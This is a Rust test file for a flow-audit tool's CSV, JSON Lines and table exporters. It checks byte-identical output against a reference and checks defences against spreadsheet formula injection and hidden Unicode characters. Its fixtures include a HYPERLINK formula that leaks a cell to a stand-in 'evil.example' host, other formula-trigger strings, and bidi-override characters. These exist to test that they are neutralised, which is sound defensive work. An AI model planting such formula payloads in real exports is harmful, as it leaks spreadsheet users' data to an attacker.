use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use serde::ser::{Serialize, SerializeStruct, Serializer};

use super::*;
use crate::enrich::names::NameSource;
use crate::record::{proto_name, EndReason, Mac};
use crate::store::testgen::{Rng, TrafficGen};

// The implementation before the hand-written formatters, kept as the reference every
// output byte is compared with.

fn reference_rfc3339_ns(unix_ns: i64) -> String {
    match jiff::Timestamp::from_nanosecond(i128::from(unix_ns)) {
        Ok(ts) => ts.strftime("%Y-%m-%dT%H:%M:%S%.9fZ").to_string(),
        Err(_) => format!("invalid-time({unix_ns})"),
    }
}

/// A text field: a `'` before a text a spreadsheet would run (the documented rule: one of
/// six first characters, and not a plain number), then RFC 4180 quoting.
fn reference_csv_field(s: &str) -> String {
    let number = {
        let t = s.strip_prefix(['+', '-']).unwrap_or(s);
        !t.is_empty()
            && t.bytes()
                .all(|b| b.is_ascii_digit() || b == b'.' || b == b'e')
            && t.bytes().next().is_some_and(|b| b.is_ascii_digit())
            && t.parse::<f64>().is_ok()
    };
    let s = match s.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') if !number => format!("'{s}"),
        _ => s.to_owned(),
    };
    if s.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s
    }
}

fn reference_cell(v: Option<&str>) -> String {
    v.unwrap_or("-")
        .chars()
        .map(|c| {
            if crate::invisible::is_invisible(c) {
                c.escape_default().to_string()
            } else {
                c.to_string()
            }
        })
        .collect()
}

fn reference_opt(v: Option<u16>) -> String {
    v.map(|v| v.to_string()).unwrap_or_default()
}

fn reference_mac(m: &Mac) -> String {
    let m = m.0;
    format!(
        "{:02x}:{:02x}:{:02x}:{:02x}:{:02x}:{:02x}",
        m[0], m[1], m[2], m[3], m[4], m[5]
    )
}

fn reference_tcp_flags(flags: u8) -> String {
    [(0x01, 'F'), (0x02, 'S'), (0x04, 'R'), (0x08, 'P')]
        .into_iter()
        .chain([(0x10, 'A'), (0x20, 'U'), (0x40, 'E'), (0x80, 'C')])
        .filter(|(bit, _)| flags & bit != 0)
        .map(|(_, c)| c)
        .collect()
}

/// `FlowRecord`'s `Serialize` before the field table.
struct ReferenceJson<'a>(&'a FlowRecord);

impl Serialize for ReferenceJson<'_> {
    fn serialize<S: Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        let r = self.0;
        let mut st = s.serialize_struct("FlowRecord", 30)?;
        st.serialize_field("time_start", &reference_rfc3339_ns(r.time_start_ns))?;
        st.serialize_field("time_end", &reference_rfc3339_ns(r.time_end_ns))?;
        st.serialize_field("iface", &r.iface)?;
        st.serialize_field("ifindex", &r.ifindex)?;
        st.serialize_field("vlan", &r.vlan)?;
        st.serialize_field("vlan_inner", &r.vlan_inner)?;
        st.serialize_field("src_mac", &reference_mac(&r.src_mac))?;
        st.serialize_field("dst_mac", &reference_mac(&r.dst_mac))?;
        st.serialize_field("proto", &proto_name(r.proto).to_string())?;
        st.serialize_field("src_ip", &r.src_ip)?;
        st.serialize_field("src_port", &r.src_port)?;
        st.serialize_field("dst_ip", &r.dst_ip)?;
        st.serialize_field("dst_port", &r.dst_port)?;
        st.serialize_field("packets", &r.packets)?;
        st.serialize_field("bytes", &r.bytes)?;
        st.serialize_field("resp_packets", &r.resp_packets)?;
        st.serialize_field("resp_bytes", &r.resp_bytes)?;
        st.serialize_field("tcp_flags", &reference_tcp_flags(r.tcp_flags))?;
        st.serialize_field("verdict", if r.dropped > 0 { "drop" } else { "pass" })?;
        st.serialize_field("dropped", &r.dropped)?;
        st.serialize_field("rule", &r.rule)?;
        st.serialize_field("end_reason", r.end_reason.as_str())?;
        let a = &r.attr;
        st.serialize_field("user", &a.user)?;
        st.serialize_field("hostname", &a.hostname)?;
        st.serialize_field("nat_ip", &a.nat_ip)?;
        st.serialize_field("nat_port", &a.nat_port)?;
        st.serialize_field("domain", &a.domain)?;
        st.serialize_field("domain_source", &a.domain_source.map(|s| s.as_str()))?;
        st.serialize_field("dns_qname", &a.dns_qname)?;
        st.serialize_field("dns_qtype", &a.dns_qtype)?;
        st.end()
    }
}

fn reference_write(out: &mut Vec<u8>, format: Format, r: &FlowRecord) -> std::io::Result<()> {
    match format {
        Format::Jsonl => {
            serde_json::to_writer(&mut *out, &ReferenceJson(r))
                .map_err(std::io::Error::other)?;
            out.write_all(b"\n")
        }
        Format::Csv => writeln!(
            out,
            "{},{},{},{},{},{},{},{},{},{},{},{},{},{},{},{},{},{},{},{},{},{},{},{},{},{},{},{},{}",
            reference_rfc3339_ns(r.time_start_ns),
            reference_rfc3339_ns(r.time_end_ns),
            reference_csv_field(&r.iface),
            r.ifindex,
            reference_opt(r.vlan),
            reference_opt(r.vlan_inner),
            reference_mac(&r.src_mac),
            reference_mac(&r.dst_mac),
            proto_name(r.proto),
            r.src_ip,
            r.src_port,
            r.dst_ip,
            r.dst_port,
            r.packets,
            r.bytes,
            r.resp_packets,
            r.resp_bytes,
            reference_tcp_flags(r.tcp_flags),
            r.dropped,
            reference_csv_field(r.rule.as_deref().unwrap_or("")),
            r.end_reason,
            reference_csv_field(r.attr.user.as_deref().unwrap_or("")),
            reference_csv_field(r.attr.hostname.as_deref().unwrap_or("")),
            r.attr.nat_ip.map(|ip| ip.to_string()).unwrap_or_default(),
            reference_opt(r.attr.nat_port),
            reference_csv_field(r.attr.domain.as_deref().unwrap_or("")),
            r.attr.domain_source.map_or("", |s| s.as_str()),
            reference_csv_field(r.attr.dns_qname.as_deref().unwrap_or("")),
            reference_opt(r.attr.dns_qtype),
        ),
        Format::Table => writeln!(
            out,
            "{:<30} {:<8} {:<6} {:>39} {:>5}  {:>39} {:>5} {:>9} {:>12} {:<8} {:<16} {}",
            reference_rfc3339_ns(r.time_start_ns),
            reference_cell(Some(&r.iface)),
            proto_name(r.proto).to_string(),
            r.src_ip.to_string(),
            r.src_port,
            r.dst_ip.to_string(),
            r.dst_port,
            r.packets,
            r.bytes,
            r.end_reason.as_str(),
            reference_cell(r.attr.user.as_deref()),
            reference_cell(r.attr.domain.as_deref()),
        ),
    }
}

const FORMATS: [Format; 3] = [Format::Table, Format::Jsonl, Format::Csv];

/// Timestamps at the edges: the i64 range, the epoch, day, month, year and leap-year
/// boundaries before and after 1970.
fn edge_times() -> Vec<i64> {
    let s = 1_000_000_000i64;
    let mut t = vec![
        0,
        1,
        -1,
        999_999_999,
        -999_999_999,
        s,
        -s,
        -s + 1,
        -s - 1,
        86_400 * s - 1,
        -86_400 * s,
        -86_400 * s - 1,
        i64::MIN,
        i64::MIN + 1,
        i64::MAX,
        i64::MAX - 1,
        951_782_400 * s,       // 2000-02-29
        951_868_800 * s - 1,   // 2000-02-29T23:59:59.999999999
        4_107_542_400 * s,     // 2100-03-01 (2100 is not a leap year)
        4_107_542_400 * s - 1, // 2100-02-28T23:59:59.999999999
        -2_208_988_800 * s,    // 1900-01-01
        -2_203_891_200 * s,    // 1900-03-01 (1900 is not a leap year)
        -2_203_891_200 * s - 1,
        -5_364_662_400 * s, // 1800-01-01
        1_700_000_000_123_456_789,
        1_709_164_800 * s,               // 2024-02-29
        1_735_689_599 * s + 999_999_999, // 2024-12-31T23:59:59.999999999
    ];
    // Every month start of a few years either side of the epoch and of 2000, 2100, 2200.
    for year_start in [
        -63_158_400i64,
        0,
        946_684_800,
        4_102_444_800,
        7_258_118_400,
        -9_214_560_000,
    ] {
        for day in (0..800).step_by(7) {
            let at = (year_start + day * 86_400) * s;
            t.extend([at, at - 1, at + 1]);
        }
    }
    t
}

/// Generated traffic plus hand-made records for every edge of every field.
fn records() -> Vec<FlowRecord> {
    let mut out = Vec::new();
    for (seed, start) in [
        (1u64, 1_700_000_000_000_000_000i64),
        (2, -2_000_000_000_000_000_000),
        (3, i64::MAX - 10_000_000_000_000),
        (4, i64::MIN + 1_000_000_000_000),
        (5, 0),
    ] {
        let mut g = TrafficGen::new(seed, start);
        out.extend((0..1_000).map(|_| g.next_record()));
    }

    let ifaces = [
        "eth0",
        "",
        "verylongiface0",
        "lan0.100",
        "ümlaut",
        "网卡0",
        "网卡网卡网卡网卡网卡",
        "a,b",
        "q\"uote",
        "\"",
        "new\nline",
        "cr\rx",
        "tab\t",
        "back\\slash",
        "ctl\u{1}\u{1f}\u{7f}",
        "emoji🦀",
        "\u{2028}",
        "=cmd",
        "-a1-b1.example",
        "+1",
        "@SUM(A1)",
        "\tlead",
        "\rlead",
        "'quoted",
        "a=b",
        "lan\u{202e}0",
        "\u{200b}",
        "fill\u{3164}",
    ];
    let rules: [Option<&str>; 11] = [
        None,
        Some(""),
        Some("/etc/xdp-audit/block.list:12"),
        Some("a,b:1"),
        Some("q\"uote.list:3"),
        Some("\"\""),
        Some("new\nline:1"),
        Some("é/ü.list:9"),
        Some("back\\slash\u{0}:2"),
        Some("=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"x\")"),
        Some("-a1-b1.example"),
    ];
    let ips: [IpAddr; 16] = [
        Ipv4Addr::new(0, 0, 0, 0).into(),
        Ipv4Addr::new(255, 255, 255, 255).into(),
        Ipv4Addr::new(10, 1, 2, 3).into(),
        Ipv4Addr::new(1, 20, 100, 9).into(),
        Ipv6Addr::UNSPECIFIED.into(),
        Ipv6Addr::LOCALHOST.into(),
        "::ffff:10.1.2.3"
            .parse::<Ipv6Addr>()
            .map_or(IpAddr::from([0u8; 4]), IpAddr::V6),
        Ipv6Addr::new(0, 0, 0, 0, 0, 0xffff, 0, 0).into(),
        Ipv6Addr::new(0, 0, 0, 0, 0, 0, 0x0a01, 0x0203).into(),
        Ipv6Addr::new(1, 0, 0, 0, 0, 0, 0, 0).into(),
        Ipv6Addr::new(1, 0, 0, 1, 0, 0, 0, 1).into(),
        Ipv6Addr::new(1, 0, 1, 0, 1, 0, 1, 0).into(),
        Ipv6Addr::new(
            0xffff, 0xffff, 0xffff, 0xffff, 0xffff, 0xffff, 0xffff, 0xffff,
        )
        .into(),
        Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 1, 0, 0, 1).into(),
        Ipv6Addr::new(0xfe80, 0, 0, 0, 0x0abc, 0x0d, 0x0100, 0x1000).into(),
        Ipv6Addr::new(0, 0, 0, 0, 0, 0, 0, 0x1).into(),
    ];
    let counters = [
        0,
        1,
        9,
        10,
        99,
        100,
        999_999_999,
        1_000_000_000_000,
        u64::MAX - 1,
        u64::MAX,
    ];
    let vlans = [None, Some(0), Some(1), Some(10), Some(4095), Some(u16::MAX)];
    let protos = [6u8, 17, 1, 58, 0, 2, 47, 99, 132, 255];
    let times = edge_times();

    let mut g = TrafficGen::new(9, 1_700_000_000_000_000_000);
    let mut rng = Rng::new(42);
    let mut pick = |n: usize| rng.below(n as u64) as usize;
    for i in 0..times.len().max(2_000) {
        let mut r = g.next_record();
        r.time_start_ns = times[i % times.len()];
        r.time_end_ns = times[pick(times.len())]; // often before time_start
        r.iface = ifaces[i % ifaces.len()].to_owned();
        r.ifindex = [0, 1, 7, u32::MAX][pick(4)];
        r.vlan = vlans[pick(vlans.len())];
        r.vlan_inner = vlans[pick(vlans.len())];
        r.src_mac = Mac([pick(256) as u8, 0, 0x0a, 0xff, pick(256) as u8, 0x10]);
        r.dst_mac = Mac([0xff; 6]);
        r.proto = protos[pick(protos.len())];
        r.src_ip = ips[i % ips.len()];
        r.dst_ip = ips[pick(ips.len())];
        r.src_port = [0, 8, 80, 443, 9999, 10000, u16::MAX][pick(7)];
        r.dst_port = [0, 8, 80, 443, 9999, 10000, u16::MAX][pick(7)];
        r.packets = counters[pick(counters.len())];
        r.bytes = counters[pick(counters.len())];
        r.resp_packets = counters[pick(counters.len())];
        r.resp_bytes = counters[pick(counters.len())];
        r.tcp_flags = i as u8;
        r.dropped = counters[pick(counters.len())];
        r.rule = rules[pick(rules.len())].map(str::to_owned);
        r.end_reason = EndReason::ALL[i % EndReason::ALL.len()];
        // Account, host and names come from files and packets: any text.
        r.attr.user = rules[pick(rules.len())].map(str::to_owned);
        r.attr.hostname = Some(ifaces[pick(ifaces.len())].to_owned()).filter(|_| i % 3 != 0);
        r.attr.nat_ip = Some(ips[pick(ips.len())]).filter(|_| i % 4 != 0);
        r.attr.nat_port = [None, Some(0), Some(1024), Some(u16::MAX)][pick(4)];
        r.attr.domain = Some(ifaces[pick(ifaces.len())].to_owned()).filter(|_| i % 5 != 0);
        r.attr.domain_source = [None, Some(NameSource::Sni), Some(NameSource::EchOuter)][pick(3)];
        r.attr.dns_qname = rules[pick(rules.len())].map(str::to_owned);
        r.attr.dns_qtype = [None, Some(1), Some(u16::MAX)][pick(3)];
        out.push(r);
    }
    out
}

fn written(format: Format, records: &[FlowRecord]) -> Vec<u8> {
    let mut w = RecordWriter::new(Vec::new(), format);
    w.header().expect("header");
    for r in records {
        w.write(r).expect("write");
    }
    w.finish().expect("finish")
}

#[test]
fn output_is_byte_identical_to_the_reference() {
    let records = records();
    for format in FORMATS {
        let mut want = Vec::new();
        match format {
            Format::Csv => writeln!(
                want,
                "time_start,time_end,iface,ifindex,vlan,vlan_inner,src_mac,dst_mac,proto,src_ip,src_port,dst_ip,dst_port,packets,bytes,resp_packets,resp_bytes,tcp_flags,dropped,rule,end_reason,user,hostname,nat_ip,nat_port,domain,domain_source,dns_qname,dns_qtype"
            )
            .expect("header"),
            Format::Table => writeln!(
                want,
                "{:<30} {:<8} {:<6} {:>39} {:>5}  {:>39} {:>5} {:>9} {:>12} {:<8} {:<16} domain",
                "time_start",
                "iface",
                "proto",
                "src_ip",
                "sport",
                "dst_ip",
                "dport",
                "packets",
                "bytes",
                "end",
                "user"
            )
            .expect("header"),
            Format::Jsonl => {}
        }
        let header_len = want.len();
        for r in &records {
            let mut one = RecordWriter::new(Vec::new(), format);
            one.write(r).expect("write");
            let got = one.finish().expect("finish");
            let mut expected = Vec::new();
            reference_write(&mut expected, format, r).expect("reference");
            assert_eq!(
                String::from_utf8_lossy(&got),
                String::from_utf8_lossy(&expected),
                "{format:?} of {r:?}"
            );
            assert_eq!(got, expected, "{format:?} of {r:?}");
            if format == Format::Jsonl {
                let mut serde = serde_json::to_vec(r).expect("serde");
                serde.push(b'\n');
                assert_eq!(got, serde, "serde's JSON of {r:?}");
            }
            want.extend_from_slice(&expected);
        }
        let all = written(format, &records);
        assert_eq!(all[..header_len], want[..header_len], "{format:?} header");
        assert!(all == want, "{format:?} stream differs");
    }
}

#[test]
fn the_nat_table_is_byte_identical_to_the_reference() {
    let mut records = records();
    // A flow's replies seen on the outside: to the outside tuple, from the remote.
    let mut reply = records[0].clone();
    (reply.attr.nat_ip, reply.attr.nat_port) = (Some(reply.dst_ip), Some(reply.dst_port));
    records.push(reply);
    let tuple = |ip: &IpAddr, port: Option<u16>| match (ip, port) {
        (IpAddr::V6(_), Some(p)) => format!("[{ip}]:{p}"),
        (_, Some(p)) => format!("{ip}:{p}"),
        (_, None) => ip.to_string(),
    };
    let mut want = format!(
        "{:<21} {:<16} {:<21} {:<21} {:<6} {:<30} {:<30} {:<8} {:<16} domain\n",
        "outside", "user", "inside", "remote", "proto", "time_start", "time_end", "end", "hostname",
    );
    for r in &records {
        let a = &r.attr;
        let (inside, remote) = if (a.nat_ip, a.nat_port) == (Some(r.dst_ip), Some(r.dst_port)) {
            ("(replies)".to_owned(), tuple(&r.src_ip, Some(r.src_port)))
        } else {
            (
                tuple(&r.src_ip, Some(r.src_port)),
                tuple(&r.dst_ip, Some(r.dst_port)),
            )
        };
        want += &format!(
            "{:<21} {:<16} {:<21} {:<21} {:<6} {} {} {:<8} {:<16} {}\n",
            a.nat_ip.map_or("-".to_owned(), |ip| tuple(&ip, a.nat_port)),
            reference_cell(a.user.as_deref()),
            inside,
            remote,
            proto_name(r.proto).to_string(),
            reference_rfc3339_ns(r.time_start_ns),
            reference_rfc3339_ns(r.time_end_ns),
            r.end_reason.as_str(),
            reference_cell(a.hostname.as_deref()),
            reference_cell(a.domain.as_deref()),
        );
    }
    let mut w = RecordWriter::new(Vec::new(), Format::Table).with_table(Table::Nat);
    w.header().expect("header");
    for r in &records {
        w.write(r).expect("write");
    }
    let got = w.finish().expect("finish");
    for (g, e) in String::from_utf8_lossy(&got).lines().zip(want.lines()) {
        assert_eq!(g, e);
    }
    assert!(got == want.as_bytes(), "NAT table differs");
}

/// A text cell starting with `=`, `+`, `-`, `@`, TAB or CR is a formula to a spreadsheet: CSV
/// puts a `'` before it (OWASP), quoting as RFC 4180 needs, unless the text is a plain number
/// (`-5`); numbers and fixed names are written as they are, and JSON Lines carries the exact
/// text.
#[test]
fn csv_text_cells_a_spreadsheet_would_run_are_prefixed() {
    let mut g = TrafficGen::new(3, 1_700_000_000_000_000_000);
    let mut r = g.next_record();
    r.iface = "@eth0".into();
    r.rule = None;
    r.attr.user = Some("=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"x\")".into());
    r.attr.hostname = Some("+host".into());
    r.attr.domain = Some("\tsite.example".into());
    r.attr.domain_source = None;
    r.attr.dns_qname = Some("-a1-b1.example".into());
    r.attr.dns_qtype = Some(1);
    r.attr.nat_ip = None;
    r.attr.nat_port = Some(0);
    let csv = String::from_utf8(written(Format::Csv, &[r.clone()])).expect("utf-8");
    let row = csv.lines().nth(1).expect("a row");
    assert!(row.contains(",'@eth0,"), "{row}");
    assert!(
        row.contains(
            ",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2,\"\"x\"\")\",'+host,,0,'\tsite.example,,'-a1-b1.example,1"
        ),
        "{row}"
    );
    // A number is never prefixed; in this table none can start with `-` either.
    assert!(!row.contains(",'0") && !row.contains(",'1"), "{row}");
    let mut plain = Vec::new();
    csv_text(&mut plain, "a-b=c");
    assert_eq!(plain, b"a-b=c", "only the first character counts");
    let json = String::from_utf8(written(Format::Jsonl, &[r])).expect("utf-8");
    assert!(
        json.contains("\"user\":\"=HYPERLINK(\\\"http://evil.example/?leak=\\\"&A2,\\\"x\\\")\"")
            && json.contains("\"dns_qname\":\"-a1-b1.example\""),
        "JSON Lines keeps the exact text: {json}"
    );
}

/// The table shows invisible characters of every free-text cell, the interface's included,
/// as escapes: a direction override cannot turn the row around, a zero-width character or a
/// filler cannot hide in it.
#[test]
fn table_cells_show_invisible_characters_escaped() {
    let mut g = TrafficGen::new(4, 1_700_000_000_000_000_000);
    let mut r = g.next_record();
    r.iface = "lan\u{202e}0".into();
    r.attr.user = Some("c-1\u{200b}7".into());
    r.attr.hostname = Some("pc\u{3164}".into());
    r.attr.domain = Some("evil\u{2066}.example\u{e0041}".into());
    let table = String::from_utf8(written(Format::Table, &[r.clone()])).expect("utf-8");
    let mut nat = RecordWriter::new(Vec::new(), Format::Table).with_table(Table::Nat);
    nat.write(&r).expect("write");
    let nat = String::from_utf8(nat.finish().expect("finish")).expect("utf-8");
    for out in [&table, &nat] {
        assert!(
            !out.chars()
                .any(|c| crate::invisible::is_invisible(c) && c != '\n'),
            "{out:?}"
        );
        assert!(out.contains("c-1\\u{200b}7 "), "{out}");
        assert!(out.contains(" evil\\u{2066}.example\\u{e0041}\n"), "{out}");
    }
    assert!(table.contains(" lan\\u{202e}0 "), "{table}");
    assert!(nat.contains(" pc\\u{3164} "), "{nat}");
}

/// Old vs new cost per record on generated traffic:
/// `cargo test --release -p xdp-audit --lib export::tests::timing -- --ignored --nocapture`.
#[test]
#[ignore = "timing, not a check"]
fn timing() {
    let mut g = TrafficGen::new(1, 1_700_000_000_000_000_000);
    let records: Vec<FlowRecord> = (0..320_000).map(|_| g.next_record()).collect();
    let per_record = |t: std::time::Instant| t.elapsed().as_nanos() as f64 / records.len() as f64;
    // Buffers allocated and touched once, so page faults stay out of the timing.
    let (mut old_out, mut new_out) = (vec![0u8; 200 << 20], vec![0u8; 200 << 20]);
    for format in FORMATS {
        let (mut old, mut new) = (f64::MAX, f64::MAX);
        for _ in 0..7 {
            old_out.clear();
            let t = std::time::Instant::now();
            for r in &records {
                reference_write(&mut old_out, format, r).expect("reference");
            }
            old = old.min(per_record(t));
            new_out.clear();
            let t = std::time::Instant::now();
            let mut w = RecordWriter::new(&mut new_out, format);
            for r in &records {
                w.write(r).expect("write");
            }
            w.finish().expect("finish");
            new = new.min(per_record(t));
            assert!(old_out == new_out, "{format:?} output differs");
        }
        println!(
            "{format:?}: old {old:.0} ns/record, new {new:.0} ns/record, {:.1}x",
            old / new
        );
    }
}
